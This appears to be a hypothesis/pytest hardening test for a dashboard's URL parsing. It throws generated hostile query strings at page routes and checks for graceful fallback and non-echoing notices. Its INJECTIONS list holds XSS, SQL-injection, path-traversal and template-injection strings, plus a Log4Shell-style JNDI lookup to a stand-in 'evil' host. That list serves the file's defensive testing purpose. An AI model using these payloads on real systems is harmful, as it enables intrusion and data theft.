"""Hostile URLs: 1,200 generated query strings against the page routes and the URL -> view callback.

Each query mixes plausible parameters with one that is certainly bad (unknown name, wrong type, out-of-range
year, huge number, unknown code, unicode, injection text) or is raw junk. For every one:

- no page route answers a 5xx;
- the view the callback settles on is valid: it survives the URL codec unchanged and without a notice;
- a bad parameter always produces at least one notice, and every notice reaches the page as an alert;
- no notice echoes markup.

The badness of a value is decided here by membership in the prepared data's known values, not by the codec.
"""

from __future__ import annotations

import re
from urllib.parse import urlencode

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from dashboard.catalog import CRIME_TYPES, INDICATORS, PARTICIPATING
from dashboard.state import MEASURES, SERIES_MODES, TOP_RANGE, parse_query, to_query
from tests.hardening.payloads import assert_valid_view, texts
from tests.unit.dash_post import post

PAGES = ("/", "/about", "/present", "/embed/map", "/embed/sankey", "/embed/series")
KNOWN = ("crime", "indicator", "year", "from", "to", "country", "route", "nationality", "measure", "incidents",
         "series", "top")
IGNORED = ("deck", "slide")  # known to the codec, read by presenter mode
INJECTIONS = ["<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "' OR 1=1 --", "../../etc/passwd",
              "${jndi:ldap://evil/a}", "{{7*7}}", "%00", "\u202egnp.exe", "javascript:alert(1)", "NaN", "Infinity",
              "1e9999", "0x7e3", "２０１９", "-0", "null", "[]", "{}", "\x00", "ÿ" * 300, "🙂" * 50]
_MAX_VALUE = 200  # parse_query reads at most this many characters of a value
_SEE = dict(max_examples=1000, deadline=None, suppress_health_check=[HealthCheck.too_slow,
                                                                       HealthCheck.function_scoped_fixture])

junk_text = st.one_of(st.sampled_from(INJECTIONS), st.text(max_size=60),
                      st.text(alphabet="0123456789-+.eE ", min_size=1, max_size=12),
                      st.integers(-10**30, 10**30).map(str), st.just("9" * 5000))


def _domain_values(domain):  # noqa: ANN001, ANN202
    return {
        "crime": list(CRIME_TYPES), "indicator": list(INDICATORS), "route": list(domain.routes),
        "nationality": sorted(domain.nationalities), "measure": list(MEASURES), "series": list(SERIES_MODES),
        "incidents": ["1", "0", "true", "false", "on", "off"],
    }


def _is_bad(key: str, value: str, domain) -> bool:  # noqa: ANN001
    """Certainly outside what the data knows (as parse_query reads it: the first 200 characters, stripped)."""
    text = value[:_MAX_VALUE].strip()
    if not text:
        return False  # an empty parameter is absent, not wrong
    if key not in KNOWN:
        return key not in IGNORED
    whole = re.fullmatch(r"-?\d{1,6}", text)
    if key in ("year", "from", "to"):
        years = {y for ys in domain.years_by_indicator.values() for y in ys} | set(domain.route_years)
        return not (whole and int(text) in years)
    if key == "top":
        return not (whole and TOP_RANGE[0] <= int(text) <= TOP_RANGE[1])
    if key == "country":
        codes = [c.strip().upper() for c in text.split(",") if c.strip()]
        return any(c not in domain.countries for c in codes)
    if key == "nationality":
        return text not in domain.nationalities and text.upper() not in domain.nationalities
    return text not in _domain_values(domain)[key]


@st.composite
def hostile_queries(draw, domain) -> tuple[str, bool]:  # noqa: ANN001
    """(query string, whether it certainly holds a bad parameter)."""
    values = _domain_values(domain)
    years = sorted({y for ys in domain.years_by_indicator.values() for y in ys})
    good_value = {
        **{k: st.sampled_from(v) for k, v in values.items()},
        "year": st.sampled_from([str(y) for y in years]),
        "from": st.sampled_from([str(y) for y in years]),
        "to": st.sampled_from([str(y) for y in years]),
        "country": st.lists(st.sampled_from(PARTICIPATING), max_size=4).map(",".join),
        "top": st.integers(*TOP_RANGE).map(str),
    }
    kind = draw(st.sampled_from(["known-key", "unknown-key", "repeat", "raw"]))
    if kind == "raw":  # unstructured junk, '&', '=', '%' and '#' included
        raw = draw(st.text(alphabet=st.sampled_from(list("&=%?#+;/abcyear0129XYZ<>\"' ü🙂")), max_size=300))
        return raw, False
    if kind == "unknown-key":
        key = draw(st.one_of(st.sampled_from(["foo", "Year", "YEAR", "crime ", "__proto__", "debug", "q[]"]),
                             st.text(min_size=1, max_size=30)).filter(lambda k: k not in KNOWN + IGNORED and k.strip()))
        bad = (key, draw(junk_text.filter(lambda v: v[:_MAX_VALUE].strip() != "")))
    else:
        key = draw(st.sampled_from(KNOWN))
        bad = (key, draw(junk_text))
    bad_known = _is_bad(*bad, domain)
    others = [k for k in KNOWN if k != bad[0]]
    good_keys = draw(st.lists(st.sampled_from(others), unique=True, max_size=6))
    pairs = [bad] + [(k, draw(good_value[k])) for k in good_keys]
    if kind == "repeat":  # good parameters again: the last of a repeated parameter wins
        pairs += [(k, draw(good_value[k])) for k in good_keys[:2]]
    return urlencode(pairs), bad_known


@pytest.fixture(scope="module")
def sync(app):  # noqa: ANN001, ANN201
    """POST the URL -> view callback as the browser does on page load, return its outputs by 'id.property'."""
    client = app.server.test_client()
    return lambda search: post(client, app, "view-state.data", {"url-request.data": {"search": search, "n": 1}},
                                 ["url-request.data"])


def test_the_generator_meets_the_floor_and_mixes_kinds(domain):
    assert _SEE["max_examples"] >= 1000
    assert _is_bad("year", "twenty", domain) and not _is_bad("year", "2019", domain)
    assert _is_bad("country", "GRC,QQQ", domain) and not _is_bad("country", "grc, tur", domain)
    assert not _is_bad("top", "   ", domain)


@settings(**_SEE)
@given(data=st.data())
def test_hostile_query_strings_fall_back_with_a_visible_notice(app, domain, sync, data):
    query, has_bad = data.draw(hostile_queries(domain))
    client = app.server.test_client()
    for page in PAGES:
        status = client.get(f"{page}?{query}").status_code
        assert status < 500, (page, query, status)
    out = sync("?" + query)
    state = assert_valid_view(out["view-state.data"], domain)
    notices = texts(out["notices.children"])
    if has_bad:
        assert notices, f"no notice for the bad parameter in {query!r}"
    assert notices == parse_query("?" + query, domain).notices
    for notice in notices:
        assert "<" not in notice and ">" not in notice, notice
    search = out.get("url.search")
    if search is not None:  # the address bar is rewritten to the clean view
        assert search == to_query(state, domain)


@pytest.mark.parametrize(("query", "fragment"), [
    ("year=twenty", 'Year "twenty" is outside the data'),
    ("crime=%3Cscript%3Ealert(1)%3C%2Fscript%3E", "Unknown crime type"),
    ("country=GRC,QQQ", 'Unknown country code "QQQ"'),
    ("top=99999999999999999999", '"top" must be a whole number'),
    ("foo=bar", 'Unknown parameter "foo"'),
])
def test_known_bad_parameters_name_themselves(sync, domain, query, fragment):
    out = sync("?" + query)
    assert_valid_view(out["view-state.data"], domain)
    assert any(fragment in n for n in texts(out["notices.children"])), out["notices.children"]
